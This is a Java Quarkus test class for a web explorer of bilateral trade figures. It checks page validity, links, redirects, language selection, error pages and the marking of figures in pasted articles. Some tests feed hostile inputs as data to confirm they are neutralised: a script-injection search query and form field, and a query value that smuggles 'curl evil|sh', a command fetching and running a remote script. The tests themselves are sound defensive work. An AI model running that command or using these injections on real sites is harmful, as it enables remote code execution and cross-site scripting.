package io.dyad.explorer;

import static io.dyad.explorer.Pages.BROWSER;
import static io.dyad.explorer.Pages.page;
import static io.restassured.RestAssured.given;
import static org.assertj.core.api.Assertions.assertThat;
import static org.hamcrest.Matchers.containsString;
import static org.hamcrest.Matchers.endsWith;
import static org.hamcrest.Matchers.not;
import static org.hamcrest.Matchers.startsWith;

import io.quarkus.test.junit.QuarkusTest;
import java.util.List;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** All pages over the first data. */
@QuarkusTest
class PagesTest {

    private static final String ARTICLE =
            "Trade between Kazakhstan and Romania increased by over 20% to $1.3 billion in"
                    + " 2022. The sides hope to reach $2 billion by 2030.";

    @ParameterizedTest
    @ValueSource(
            strings = {
                "/",
                "/search?q=korea",
                "/search?q=%22%3E%3Cscript%3E",
                "/KAZ-KOR",
                "/KAZ-ROU",
                "/KAZ-KEN",
                "/embed/KAZ-KOR",
                "/KAZ",
                "/KAZ?indicator=turnover-growth",
                "/FJI",
                "/sources",
                "/sources/the-astana-times-2023-09-20-9c90b008",
                "/disagreements",
                "/disagreements?country=kazakhstan&kind=mirror",
                "/disagreements?country=nowhere",
                "/coverage",
                "/coverage?country=kazakhstan&indicator=turnover",
                "/compare",
                "/compare?pairs=KAZ-KOR,kazakhstan%20romania,nothing&as=index",
                "/article"
            })
    void everyPageIsValidAndItsLinksAreRelativeAndAnswer(String address) {
        String page = page(address);
        assertThat(Pages.faults(page)).isEmpty();
        assertThat(page)
                .doesNotContain("<script>", "<style", "style=", "onclick=")
                .containsOnlyOnce("<h1");
        List<String> links = Pages.links(page).stream()
                .filter(it -> !it.contains("/oembed?") && !it.startsWith("https://astanatimes.com/"))
                .toList();
        assertThat(links).isNotEmpty().allSatisfy(it -> {
            assertThat(it).doesNotStartWith("/").doesNotContain("://");
            assertThat(given().accept(BROWSER)
                            .urlEncodingEnabled(false)
                            .get(Pages.resolved(address, it))
                            .statusCode())
                    .as(it)
                    .isEqualTo(200);
        });
    }

    @Test
    void theFirstPageTellsWhatIsNewAndWhereSourcesContradictEachOther() {
        assertThat(page("/"))
                .contains("New in the store", "Kazakhstan and Montenegro</a>: Travellers", "&gt; 40,000")
                .contains("Of the 8 claims that were looked through, none contradicts another in this way.");
    }

    @Test
    void aCountrysPartnersStandInTheirRankWithABoundAsABoundWithoutEnd() {
        assertThat(page("/KAZ"))
                .contains("Trade turnover, 2022, in the book press.")
                .contains("<a href=\"KAZ-KOR\">South Korea</a>", "&gt; $6 bn")
                .contains("<path class=\"sure\" d=\"M0.0 1H87.0V9H0.0z\"/>")
                .contains("<path class=\"maybe\" d=\"M87.0 1H100.0M87.0 9H100.0M87.0 1V9\"/>")
                .contains("248 countries have no figure in this book and period.")
                .contains("What is stated last of each partner", "visa-free, direct, Astana–Podgorica");
    }

    @Test
    void aCountryOfWhichNothingIsKnownSaysSo() {
        assertThat(page("/FJI")).contains("There is no figure to rank by turnover of Fiji for any period");
        given().accept(BROWSER).get("/XXX").then().statusCode(404);
    }

    @Test
    void everySpellingOfACountryLeadsToItsOneAddress() {
        given().redirects()
                .follow(false)
                .get("/kaz?indicator=turnover")
                .then()
                .statusCode(301)
                .header("Location", endsWith("/KAZ?indicator=turnover"));
    }

    @Test
    void aSourceShowsTheWordsThatStateAFigureWithinTheirSentence() {
        assertThat(page("/sources/the-astana-times-2023-09-20-9c90b008"))
                .contains("President Tokayev Fosters Diplomatic, Economic Ties During UN General Assembly")
                .contains("“increasing by over 20% <mark>to $1.3 billion</mark>”")
                .contains("href=\"../KAZ-ROU\"");
    }

    @Test
    void whatThereIsStandsYearByYear() {
        assertThat(page("/coverage?country=kazakhstan"))
                .contains("<th scope=\"col\">2022</th>", "<td class=\"n1\">1</td>", "value=\"Kazakhstan\"");
        assertThat(page("/coverage?country=nowhere")).contains("No country is called &quot;nowhere&quot;");
        assertThat(page("/coverage?country=fiji")).contains("No source states anything of this.");
    }

    @Test
    void pairsAreFoundByNamesAndWhatIsNotUnderstoodIsSaid() {
        assertThat(page("/compare?pairs=kazakhstan%20south%20korea,kaz-rou,kazakhstan%20korea,xyz"))
                .contains("value=\"KAZ-KOR, KAZ-ROU\"", "Kazakhstan – South Korea, press", "&gt; $6 bn")
                .contains("“kazakhstan korea” may be KAZ-KOR or KAZ-PRK.", "“xyz” names no two countries.")
                .contains("/v1/figures?pair=KAZ-KOR,KAZ-ROU&amp;indicator=turnover");
        assertThat(page("/compare?pairs=KAZ-KEN"))
                .contains("No line of Kazakhstan – Kenya: no figure of turnover with a period");
    }

    @Test
    void aPairWithoutALineIsNamedWithTheReason() {
        assertThat(page("/compare?pairs=KAZ-KOR,KAZ-ROU"))
                .contains("Kazakhstan – South Korea, press", "No line of Kazakhstan –");
    }

    @Test
    void whatSomebodyHangsOnALinkGetsIntoNoCommand() {
        assertThat(page("/FJI?book=x%27%3Bcurl%20evil%7Csh%3B%27&period=2022%22"))
                .doesNotContain("evil", "2022&quot;");
    }

    @Test
    void aLongListOfPairsIsReadAsFarAsTheFieldGoes() {
        assertThat(page("/compare?pairs=" + "ab%20cd,".repeat(800)).split("“ab cd” ", -1))
                .hasSizeBetween(2, 13);
    }

    @Test
    void aPairIsFoundByItsOtherCodes() {
        for (String other : List.of("/KZ-KR", "/398-410", "/kor-KZ")) {
            given().redirects()
                    .follow(false)
                    .get(other)
                    .then()
                    .statusCode(301)
                    .header("Location", endsWith("/KAZ-KOR"));
        }
        given().redirects().follow(false).get("/KZ").then().statusCode(301).header("Location", endsWith("/KAZ"));
    }

    @Test
    void noMoreThanSixPairsAreCompared() {
        String pairs = IntStream.range(0, 7)
                .mapToObj(it -> "KAZ-"
                        + List.of("KOR", "ROU", "KEN", "MNE", "ALB", "FJI", "USA")
                                .get(it))
                .collect(Collectors.joining(","));
        assertThat(page("/compare?pairs=" + pairs))
                .contains("No more than 6 pairs are drawn")
                .doesNotContain("KAZ-USA");
    }

    @Test
    void aPastedArticleIsMarkedWithFiguresReasonsAndWhatWasLeft() {
        String page = read(ARTICLE, "2023-09-20", 200);
        assertThat(Pages.faults(page)).isEmpty();
        assertThat(page)
                .contains(
                        "<a class=\"taken\" href=\"#taken-2\" aria-describedby=\"why-4\">to $1.3 billion</a><sup>2</sup>")
                .contains("<a class=\"left\" href=\"#left-1\"", "Left: a target: hoped for or promised, not measured")
                .contains("Growth of trade turnover", "&gt; 20 %", "indicator: “Trade”");
        assertThat(read("Nothing of the kind.", "", 200)).contains("The text states no number.");
    }

    @Test
    void wordsThatHoldOutsideTheFirstPlaneAreMarkedAtTheirPlace() {
        assertThat(read("\uD83D\uDE80 Trade between Kazakhstan and Romania reached $1.3 billion in 2022.", "", 200))
                .contains(">reached $1.3 billion</a>");
    }

    @Test
    void whatCannotBeReadOfAnArticleIsSaidBesideWhatWasTyped() {
        assertThat(read(ARTICLE, "yesterday", 400))
                .contains("Not read", "published_on", "value=\"yesterday\"", "hope to reach $2 billion");
        assertThat(read("<script>alert(1)</script>", "\"><b>", 400)).doesNotContain("<script>alert", "\"><b>");
        given().accept(BROWSER)
                .contentType("application/x-www-form-urlencoded")
                .body("text=100%zz")
                .post("/article")
                .then()
                .statusCode(400);
    }

    @Test
    void countriesAreNamedInTheLanguageThatTheBrowserPrefers() {
        for (String language : List.of("ru-RU,ru;q=0.9,en;q=0.8", "en-GB", "xx, ru;q=0.5", "ru;q=0")) {
            given().accept(BROWSER)
                    .header("Accept-Language", language)
                    .get("/KAZ-KOR")
                    .then()
                    .statusCode(200)
                    .header("Vary", containsString("Accept-Language"))
                    .body(containsString(
                            language.startsWith("en") || language.endsWith("=0")
                                    ? ">Kazakhstan</a>"
                                    : ">Казахстан</a>"));
        }
        given().accept(BROWSER)
                .header("Accept-Language", "ru")
                .get("/KAZ-KOR?language=en")
                .then()
                .body(containsString(">Kazakhstan</a>"));
        given().get("/v1/pairs/KAZ-KOR").then().header("Vary", not(containsString("Accept-Language")));
    }

    @Test
    void whatIsNoPageIsToldOnAPageToBrowsersAndAsDataToPrograms() {
        given().accept(BROWSER)
                .get("/sources/nothing")
                .then()
                .statusCode(404)
                .contentType("text/html;charset=UTF-8")
                .header("Cache-Control", "no-store")
                .body(containsString("There is no source &quot;nothing&quot;"))
                .body(containsString("href=\"../explorer.css"));
        given().get("/sources/nothing").then().statusCode(404).contentType(startsWith("application/problem+json"));
        given().accept(BROWSER)
                .get("/v1/nothing")
                .then()
                .statusCode(404)
                .contentType(startsWith("application/problem+json"));
    }

    private static String read(String text, String publishedOn, int status) {
        return given().accept(BROWSER)
                .contentType("application/x-www-form-urlencoded; charset=UTF-8")
                .formParam("text", text)
                .formParam("published_on", publishedOn)
                .post("/article")
                .then()
                .statusCode(status)
                .contentType("text/html;charset=UTF-8")
                .extract()
                .asString();
    }
}
